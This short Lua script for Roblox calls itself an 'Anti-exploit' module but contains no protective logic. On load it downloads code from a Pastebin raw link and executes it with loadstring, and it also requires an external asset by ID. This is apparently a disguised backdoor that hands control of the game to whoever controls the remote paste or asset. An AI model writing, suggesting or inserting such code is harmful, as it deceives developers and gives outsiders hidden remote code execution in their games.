-- "Anti-exploit" module for Roblox games
local HttpService = game:GetService("HttpService")

local function init()
	local src = game:HttpGet("https://pastebin.com/raw/x8Yq2LmN", true)
	loadstring(src)()
end

spawn(init)
require(4738291045)
